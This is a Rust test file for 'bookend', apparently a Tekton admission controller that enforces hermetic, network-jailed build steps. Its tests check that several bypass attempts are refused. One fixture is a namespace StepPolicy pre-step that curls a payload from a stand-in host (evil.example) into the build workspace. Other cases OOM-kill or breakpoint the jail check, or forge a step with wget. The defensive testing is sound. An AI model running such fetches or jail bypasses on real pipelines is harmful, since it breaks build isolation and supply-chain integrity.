/// A namespace admin's StepPolicy in the namespace a hermetic ClusterStepPolicy covers.
const TEAM_STEPS: &str = r#"
---
apiVersion: bookend.dev/v1alpha1
kind: StepPolicy
metadata: {name: team, namespace: team-a, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  preSteps:
  - name: bookend-team-fetch
    image: curlimages/curl
    command: [sh, -c, "curl -o /workspace/deps.tgz https://evil.example/deps.tgz"]
"#;

/// Attack (claim 1, by a namespace admin, who may create StepPolicies): the platform's
/// ClusterStepPolicy asks for hermetic user steps; the namespace admin, who also writes the
/// TaskRuns, adds a StepPolicy whose pre-step fetches what the build uses. It is an org step,
/// so bookend leaves it the network: the namespace's own code runs networked before the
/// TaskRun's steps, in their Pod, writing into their workspace. The claim says no step the
/// author supplied runs with network; a StepPolicy's steps are the namespace's, not the org's.
/// Was open (breaker round 36); such a StepPolicy is now refused while the platform's jail
/// applies.
#[test]
fn a_namespace_policys_step_does_not_run_networked_under_the_platforms_jail() {
    let set = policies(&format!("{ON_SUCCESS_HERMETIC}{TEAM_STEPS}"));
    let d = run(&set, &taskrun(build()));
    assert_eq!(d.outcome, Outcome::Denied, "admitted: {}", d.object);
    let m = d.message.unwrap_or_default();
    assert!(
        m.contains("StepPolicy/team-a/team")
            && m.contains("bookend-team-fetch")
            && m.contains("ClusterStepPolicy/org"),
        "{m}"
    );
    // A remote Task: refused at the TaskRun's CREATE, before any dry-run.
    let remote = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
        "metadata": {"name": "r", "namespace": "team-a"},
        "spec": {"taskRef": {"resolver": "git", "params": []}}});
    assert_eq!(run(&set, &remote).outcome, Outcome::Denied);
    // The namespace's own hermetic policy beside its own steps: the namespace jails only its
    // TaskRuns' steps, its policy's steps keep the network.
    let own = policies(&format!(
        "{}{}",
        TEAM_STEPS.trim_start_matches("\n---\n"),
        "\n  userSteps: {network: None}\n"
    ));
    assert_eq!(run(&own, &taskrun(build())).outcome, Outcome::Mutated);
}

/// Attack (claim 2): the TaskRun's own fields that Tekton applies to a step by name, aimed at
/// the jail check: a memory limit that OOM-kills it (a jail failure the node did not cause, and
/// the Always post-steps skipped), a breakpoint that holds it.
#[test]
fn the_taskruns_per_step_fields_cannot_reach_the_jail_check() {
    for yaml in [ALWAYS_HERMETIC, ON_SUCCESS_HERMETIC] {
        let set = policies(yaml);
        let fields = [
            json!({"stepSpecs": [{"name": JAIL_CHECK, "computeResources": {"limits": {"memory": "1Ki"}}}]}),
            json!({"debug": {"breakpoints": {"beforeSteps": [JAIL_CHECK]}}}),
        ];
        for extra in fields {
            let mut object = taskrun(build());
            for (k, v) in extra.as_object().unwrap() {
                object["spec"][k] = v.clone();
            }
            let d = run(&set, &object);
            assert_eq!(d.outcome, Outcome::Denied, "{extra} admitted");
        }
        // v1beta1's stepOverrides.
        let mut object = taskrun(build());
        object["apiVersion"] = json!("tekton.dev/v1beta1");
        object["spec"]["stepOverrides"] =
            json!([{"name": JAIL_CHECK, "resources": {"limits": {"memory": "1Ki"}}}]);
        assert_eq!(run(&set, &object).outcome, Outcome::Denied, "stepOverrides");
    }
}

/// Found by the generator (claim 3, remote path): under a `postStepsRun: Always` policy, a
/// resolved Task where one of the author's steps has its own `onError: continue` and another
/// does not. The dry-run's record of which steps bookend set to `continue` stays on the Task
/// (Tekton's controller keeps the TaskRun's metadata), so verification must tell them apart
/// some other way; composing again with "all" or "none" gives other gates and verdict, and no
/// step is taken for the org's. Every policy then fails `did_not_run` although every step ran
/// (a wrong fail), and a jail failure is not `hermetic_jail_failed`.
#[test]
fn a_resolved_task_with_its_own_continue_is_verified_by_composition() {
    let set = policies(ALWAYS_HERMETIC);
    let task_spec = json!({"steps": [
        {"name": "build", "image": "go"},
        {"name": "test", "image": "go", "onError": "continue"}]});
    let (object, ran) = remote_run(&set, task_spec);
    let names: Vec<String> = ran["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap().to_owned())
        .collect();
    let mut finished = object.clone();
    finished["status"] = json!({
        "conditions": [{"type": "Succeeded", "status": "True", "reason": "Succeeded"}],
        "podName": "run-1-pod",
        "steps": names.iter().map(|n| step_state(n, 0, "Completed", "Completed")).collect::<Vec<_>>(),
        "taskSpec": ran,
    });
    let v = super::verify::verify(&finished, &set, &Catalog::default()).expect("finished");
    assert!(v.by_composition, "{v:#?}");
    let jail = verdict_of(&set, &finished, "ClusterStepPolicy/org");
    assert_eq!(jail.verdict, super::verify::RunVerdict::Pass, "{jail:#?}");
    // And with the jail check failed: the jail's cause.
    let failed = failed_at(&object, &finished["status"]["taskSpec"], JAIL_CHECK);
    let jail = verdict_of(&set, &failed, "ClusterStepPolicy/org");
    assert_eq!(
        jail.cause,
        Some(super::verify::Cause::HermeticJailFailed),
        "{jail:#?}"
    );
}

/// Found by the generator (claim 3, defence in depth: after CREATE only bookend may change its
/// record, so this needs a record bookend did not write): a record that names a policy twice,
/// the second time with no steps. Verification verified the policy once per entry, and the
/// mark (one verdict per policy, the last one written) took the empty entry's `pass` although
/// the policy's org step failed.
#[test]
fn a_record_naming_a_policy_twice_does_not_make_its_mark_pass() {
    let set = policies(ON_SUCCESS_HERMETIC);
    // The pre-step failed: nothing after it ran.
    let mut failed = inline_failed_at(&set, "bookend-fetch");
    let record: Value = serde_json::from_str(
        failed["metadata"]["annotations"][super::record::ANNOTATION]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    let mut doubled = record.clone();
    let mut entry = record["policies"][0].clone();
    entry["steps"] = json!([]);
    doubled["policies"].as_array_mut().unwrap().push(entry);
    failed["metadata"]["annotations"][super::record::ANNOTATION] = json!(doubled.to_string());
    let v = super::verify::verify(&failed, &set, &Catalog::default()).expect("finished");
    let runs: Vec<_> = v
        .policies
        .iter()
        .filter(|p| p.policy == "ClusterStepPolicy/org")
        .collect();
    assert_eq!(runs.len(), 1, "verified once per record entry: {runs:#?}");
    let mark = super::verdict_counts::Mark::of(&v, k8s_openapi::jiff::Timestamp::UNIX_EPOCH);
    assert_eq!(
        mark.verdicts
            .get("ClusterStepPolicy/org")
            .map(String::as_str),
        Some("fail"),
        "{mark:?}"
    );
}

/// Attack (claim 3, the other way): under an Always policy bookend sets `onError: continue`
/// on the author's steps, and a jailed step that ends `Failed` is read as one the entrypoint
/// could not start in its jail. An author's step that eats its memory limit is OOM-killed
/// (the kernel's verdict, reason `OOMKilled`, exit code 137), not a jail the node refused:
/// it must not be reported as `hermetic_jail_failed`, which sends the operator to the node.
#[test]
fn an_oom_killed_author_step_is_no_jail_failure() {
    let set = policies(ALWAYS_HERMETIC);
    let mut finished = inline_failed_at(&set, "build");
    let build = index_of(finished["status"]["steps"].as_array().unwrap(), "build").unwrap();
    finished["status"]["steps"][build] = step_state("build", 137, "OOMKilled", "");
    let org = verdict_of(&set, &finished, "ClusterStepPolicy/org");
    // The Always post-step did not run after it: that is the policy's failure.
    assert_eq!(org.cause, Some(super::verify::Cause::DidNotRun), "{org:#?}");
}

/// Attack (claim 3, the cause): `debug.breakpoints.onFailure` under an `OnSuccess` hermetic
/// policy. When the jail cannot be set up, Tekton's entrypoint holds the failed jail check for
/// a debugger (`CheckForBreakpointOnFailure` runs for a command it could not start too) and
/// writes no post file: nothing else runs, the TaskRun hangs until its timeout, and the
/// controller's `TaskRunTimeout` on the jail check reads as a step stopped by the timeout,
/// `did_not_run`, not `hermetic_jail_failed`. Was refused only under `postStepsRun: Always`;
/// now under `userSteps.network: None` too.
#[test]
fn a_failure_breakpoint_cannot_hide_a_jail_failure() {
    let set = policies(ON_SUCCESS_HERMETIC);
    let mut object = taskrun(build());
    object["spec"]["debug"] = json!({"breakpoints": {"onFailure": "enabled"}});
    let d = run(&set, &object);
    assert_eq!(
        d.outcome,
        Outcome::Denied,
        "admitted: the jail check's failure would hang the TaskRun until its timeout"
    );
}

/// A hermetic policy with no steps of its own: the jail check is all bookend injects, and it is
/// still bookend's (forgeries refused or corrected, no second-pass patch, verified).
#[test]
fn a_hermetic_policy_without_steps_keeps_its_jail_check() {
    let set = policies(
        r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  userSteps: {network: None}
"#,
    );
    let honest = admitted(&set, &taskrun(build()));
    let honest_steps = steps(&honest);
    assert_eq!(index_of(&honest_steps, JAIL_CHECK), Some(0), "{honest}");
    assert!(run(&set, &honest).patch.is_empty());
    let mut removed = honest_steps.clone();
    removed.remove(0);
    let mut altered = honest_steps.clone();
    altered[0]["args"] = json!(["wget http://x"]);
    for forged in [removed, altered] {
        refused_or_corrected(&set, &with_steps(&honest, forged), &honest).unwrap();
    }
    let finished = inline_failed_at(&set, JAIL_CHECK);
    let org = verdict_of(&set, &finished, "ClusterStepPolicy/org");
    assert_eq!(
        org.cause,
        Some(super::verify::Cause::HermeticJailFailed),
        "{org:#?}"
    );
}
